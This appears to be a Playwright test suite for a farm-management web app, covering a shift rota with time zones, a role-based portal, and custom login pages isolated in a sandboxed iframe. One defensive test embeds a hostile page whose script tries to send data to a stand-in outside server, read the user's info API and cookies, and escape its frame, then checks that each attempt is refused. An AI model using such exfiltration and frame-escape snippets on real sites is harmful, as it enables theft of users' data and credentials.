import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expectNoA11yViolations } from '../../accessibility.ts'
import { givenLogin } from '../../given/login.ts'
import { expect, test, visit } from '../../journey.ts'
import { contentAddress, workshopAddress } from '../../portal.ts'

const tab = (page: Page, name: string) => page.getByRole('tab', { name: new RegExp(`^${name}`) })

test.describe('a schedule', () => {
  test.use({ baseURL: workshopAddress })

  test('is a rota of two weeks: letters by people and days, and who has a shift says when it is', async ({ page }) => {
    await visit(page, '/demo/stage/schedule')
    const rota = page.getByRole('table').first()
    await expect(rota.getByRole('columnheader')).toHaveCount(16)
    await expect(rota.getByRole('rowheader')).toHaveCount(8)

    const line = rota.getByRole('row').filter({ hasText: '青禾' })
    await expect(line.getByRole('cell')).toHaveCount(15)
    await line.getByRole('button', { name: '早', exact: true }).first().click()

    const inspector = page.getByRole('complementary')
    await expect(inspector.getByRole('heading')).toContainText('青禾')
    await expect(inspector).toContainText('08:00 – 16:00')
    await expect(inspector).toContainText('每 8 天')
  })

  test('shows month, week and list with their dates, and its rules in words', async ({ page }) => {
    await visit(page, '/demo/stage/schedule')
    await tab(page, '月').click()
    await expect(page.getByRole('grid').or(page.getByRole('table')).first()).toBeVisible()
    await expect(page.getByText('班前会').first()).toBeVisible()

    await tab(page, '周').click()
    await expect(page.getByText('08:00').first()).toBeVisible()
    await tab(page, '列表').click()
    await expect(page.getByText(/组夜班/).first()).toBeVisible()

    await tab(page, '规则').click()
    await expect(page.getByRole('row').filter({ hasText: '班前会' })).toContainText('每周一、周四')
    await expect(page.getByRole('row').filter({ hasText: '消防演练' })).toContainText('每月第一个周三')
  })

  for (const timezoneId of ['UTC', 'Europe/Berlin', 'America/New_York']) {
    test.describe(`in ${timezoneId}`, () => {
      test.use({ timezoneId })

      test('the rota and its hours are those of the file, not of the reader', async ({ page }) => {
        await visit(page, '/demo/stage/schedule')
        const rota = page.getByRole('table').first()
        await expect(rota.getByRole('columnheader').last()).toHaveText(/夜/)

        const line = rota.getByRole('row').filter({ hasText: '青禾' })
        const letters = (await line.getByRole('cell').allTextContents()).slice(0, 14).join('')
        expect('早早中中夜夜休休'.repeat(4)).toContain(letters)
        await line.getByRole('button', { name: '早', exact: true }).first().click()
        await expect(page.getByRole('complementary')).toContainText('08:00 – 16:00')
        await expect(page.getByRole('complementary')).toContainText('UTC+8')
      })
    })
  }

  test.describe('elsewhere', () => {
    test.use({ timezoneId: 'Europe/Berlin', locale: 'en' })

    test('the next ten dates are shown in the reader’s time zone, and the zone is named', async ({ page }) => {
      // A Thursday: the meeting at 07:40 in Shanghai is on Mondays and Thursdays.
      await page.clock.setFixedTime('2026-11-19T00:00:00+08:00')
      await visit(page, '/demo/stage/schedule?lang=en')
      const inspector = page.getByRole('complementary')

      await expect(inspector.getByRole('listitem')).toHaveCount(10)
      await expect(inspector).toContainText('Central European Standard Time (UTC+1)')
      await expect(inspector).toContainText('The file says Asia/Shanghai.')
      await expect(inspector.getByLabel('Subscription address')).toHaveValue(/\/api\/resources\/1\/calendar\.ics$/)
      await expect(inspector.getByText('Thu, Nov 19 00:40')).toBeVisible()
    })
  })
})

test.describe('a portal', () => {
  test.use({ baseURL: workshopAddress })
  const widget = (page: Page, id: string) => page.locator(`[data-widget="${id}"]`)

  test('is laid out anew for each width and shows each role its own', async ({ page }) => {
    await visit(page, '/demo/stage/portal')
    const banner = await widget(page, 'banner').boundingBox()
    const todo = await widget(page, 'todo').boundingBox()
    expect(todo?.y).toBe(banner?.y)
    await expect(widget(page, 'todo')).toContainText('合同审批：肥料采购')
    await expect(widget(page, 'yield').getByRole('img')).toHaveAccessibleName(/80 t/)

    await page.getByRole('button', { name: '手机' }).click()
    await expect
      .poll(async () => (await widget(page, 'todo').boundingBox())?.x)
      .toBe((await widget(page, 'banner').boundingBox())?.x)
    expect((await widget(page, 'banner').boundingBox())?.width).toBeLessThan(360)

    await page.getByLabel('查看身份').selectOption('staff')
    await expect(widget(page, 'yield')).toHaveCount(0)
    await expect(widget(page, 'weather')).toContainText('未知组件：weather')
  })

  test('lists its widgets and shows its grid', async ({ page }) => {
    await visit(page, '/demo/stage/portal')
    await tab(page, '组件').click()
    await expect(page.getByRole('row')).toHaveCount(7)
    await expect(page.getByRole('row').filter({ hasText: '本月产量' })).toContainText('场长')

    await tab(page, '栅格').click()
    await expect(widget(page, 'todo')).toContainText('8, 0 · 4 × 5')
  })

  test.describe('on a phone', () => {
    test.use({ viewport: { width: 390, height: 844 } })

    test('is the phone’s layout, as wide as the screen', async ({ page }) => {
      await visit(page, '/demo/stage/portal')

      await expect(widget(page, 'todo')).toBeVisible()
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
    })
  })
})

const slots = [
  { name: 'title', kind: 'text' as const, value: { 'zh-CN': '禾岸农业', en: 'Riverbank Farms' } },
  { name: 'logo', kind: 'logo' as const, value: null },
]
const reading = `<!doctype html><title>x</title><h1 id="title"></h1><img id="logo" alt=""><script>
  const bytes = Uint8Array.from(atob(location.hash.slice(1).replaceAll('-', '+').replaceAll('_', '/')), (c) => c.charCodeAt(0))
  const told = JSON.parse(new TextDecoder().decode(bytes))
  document.documentElement.lang = told.language
  document.querySelector('#title').textContent = told.title
  document.querySelector('#logo').src = told.logo ?? ''
</script>`

test.describe('a login page', () => {
  const frame = (page: Page) => page.frameLocator('iframe[sandbox="allow-scripts"]')

  test('is the page itself, from the second address, at three sizes and in three languages [RT-10]', async ({
    page,
  }) => {
    await visit(page, `/resource/login/${await givenLogin(reading, slots)}`)
    await expect(frame(page).getByRole('heading')).toHaveText('禾岸农业')
    const address = await page.locator('iframe').getAttribute('src')
    expect(address).toContain(`${contentAddress}/content/`)

    for (const [size, width] of [
      ['平板', 834],
      ['手机', 390],
      ['电脑', 1280],
    ] as const) {
      await page.getByRole('button', { name: size, exact: true }).click()
      await expect
        .poll(() =>
          frame(page)
            .locator('html')
            .evaluate(() => innerWidth),
        )
        .toBe(width)
    }
    await page.getByLabel('页面语言').selectOption('en')
    await expect(frame(page).getByRole('heading')).toHaveText('Riverbank Farms')
  })

  test('takes one’s own title and logo, and nothing of them leaves the browser', async ({ page }) => {
    await visit(page, `/resource/login/${await givenLogin(reading, slots)}`)
    await expect(frame(page).getByRole('heading')).toHaveText('禾岸农业')
    const sent: string[] = []
    page.on('request', (request) =>
      sent.push(`${request.method()} ${request.url().split('#')[0]} ${request.postData()}`),
    )

    await page.getByRole('textbox', { name: '标题' }).fill('北岸机械')
    await expect(frame(page).getByRole('heading')).toHaveText('北岸机械')
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><path d="M0 0h80v40H0z"/></svg>'
    // The browser's own button would speak the browser's language: it is there for the keyboard, and cannot be seen.
    const logo = page.getByLabel('标志')
    await expect(page.getByText('选择图片', { exact: true })).toBeVisible()
    await expect(logo).toHaveCSS('opacity', '0')
    await logo.setInputFiles({ name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) })
    await expect(frame(page).locator('#logo')).toHaveAttribute('src', /^data:image\/png;base64,/)

    expect(sent.filter((line) => !line.startsWith('GET '))).toEqual([])
    expect(sent.join('\n')).not.toContain(encodeURIComponent('北岸机械'))
  })

  test.describe('that means harm', () => {
    // The browser itself says what it refused to do.
    test.use({ mayPrint: /Content Security Policy|sandbox|Blocked|violates|ERR_|blocked/i })

    test('cannot post, cannot call out and cannot leave its frame', async ({ page, baseURL }) => {
      const calls: string[] = []
      const outside = createServer((request, response) => {
        calls.push(`${request.method} ${request.url}`)
        response.end()
      })
      await new Promise<void>((done) => outside.listen(0, '127.0.0.1', () => done()))
      const there = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
      const hostile = `<!doctype html><title>x</title><form action="${there}/form" method="post"><input name="a" value="b"></form>
        <img src="${there}/picture" alt=""><script>
        const tries = [
          () => fetch('${there}/fetch', { method: 'POST', body: 'x' }),
          () => fetch('${baseURL}/api/users/mine/infos', { credentials: 'include' }),
          () => navigator.sendBeacon('${there}/beacon', 'x'),
          () => document.forms[0].submit(),
          () => open('${there}/window'),
          () => { top.location = '${there}/top' },
          () => new WebSocket('${there.replace('http', 'ws')}/socket'),
          () => document.cookie,
        ]
        const done = tries.map((go) => { try { return Promise.resolve(go()).then(() => 'went', () => 'refused') } catch { return 'refused' } })
        Promise.all(done).then((all) => { document.body.dataset.done = all.join(' ') })
      </script>`
      const id = await givenLogin(hostile)

      await visit(page, `/resource/login/${id}`)
      await expect(frame(page).locator('body')).toHaveAttribute('data-done', /refused refused/)
      // Time in which anything that was merely slow would arrive.
      await page.waitForTimeout(1_000)

      expect(calls).toEqual([])
      expect(new URL(page.url()).pathname).toBe(`/resource/login/${id}`)
      expect(page.context().pages()).toHaveLength(1)
      outside.close()
    })
  })

  test.describe('where there is no second address', () => {
    test.use({ baseURL: workshopAddress })

    test('is not shown, and the stage says why', async ({ page }) => {
      await visit(page, '/demo/stage/login')

      await expect(page.getByRole('alert')).toContainText('单独的网址')
      await expect(page.locator('iframe')).toHaveCount(0)
    })
  })
})

for (const type of ['schedule', 'portal'] as const) {
  test(`the stage of a ${type} can be used by everybody`, { tag: '@states' }, async ({ page }) => {
    // Every view of the stage is looked over, one after the other.
    await page.goto(`${workshopAddress}/demo/stage/${type}`)
    await expect(page.getByRole('tablist')).toBeVisible()
    for (const view of await page.getByRole('tab').all()) {
      await view.click()
      await expectNoA11yViolations(page, ['[role="tabpanel"]', 'aside'])
    }
  })
}
